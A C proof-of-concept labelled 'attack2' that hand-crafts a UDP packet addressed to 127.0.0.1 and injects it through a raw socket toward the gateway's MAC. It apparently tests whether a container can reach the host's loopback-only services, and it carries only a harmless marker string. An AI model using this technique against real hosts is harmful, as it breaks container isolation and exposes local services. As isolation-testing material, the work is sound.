/* attack2: send one UDP datagram "from-the-container" to 127.0.0.1:PORT, framed by hand and put on
   eth0 for the gateway's MAC (a raw socket: CAP_NET_RAW). argv: gateway MAC, own IPv4, port. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short csum(const void *p, int n) {
  const unsigned short *w = p;
  unsigned long s = 0;
  for (; n > 1; n -= 2) s += *w++;
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return (unsigned short)~s;
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (s < 0) { perror("socket"); return 1; }
  const char msg[] = "from-the-container";
  unsigned char pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + sizeof msg - 1];
  memset(pkt, 0, sizeof pkt);
  struct iphdr *ip = (struct iphdr *)pkt;
  struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
  memcpy(pkt + sizeof *ip + sizeof *udp, msg, sizeof msg - 1);
  ip->version = 4, ip->ihl = 5, ip->ttl = 64, ip->protocol = IPPROTO_UDP, ip->tot_len = htons(sizeof pkt);
  inet_pton(AF_INET, argv[2], &ip->saddr);
  inet_pton(AF_INET, "127.0.0.1", &ip->daddr);
  ip->check = csum(ip, sizeof *ip);
  udp->source = htons(40000), udp->dest = htons((unsigned short)atoi(argv[3]));
  udp->len = htons(sizeof pkt - sizeof *ip), udp->check = 0;
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strcpy(ifr.ifr_name, "eth0");
  if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("index"); return 1; }
  struct sockaddr_ll to;
  memset(&to, 0, sizeof to);
  to.sll_family = AF_PACKET, to.sll_ifindex = ifr.ifr_ifindex, to.sll_halen = 6, to.sll_protocol = htons(ETH_P_IP);
  unsigned int m[6];
  if (sscanf(argv[1], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) return 2;
  for (int i = 0; i < 6; i++) to.sll_addr[i] = (unsigned char)m[i];
  for (int i = 0; i < 10; i++) {
    if (sendto(s, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) < 0) { perror("sendto"); return 1; }
    usleep(100000);
  }
  puts("sent");
  return 0;
}
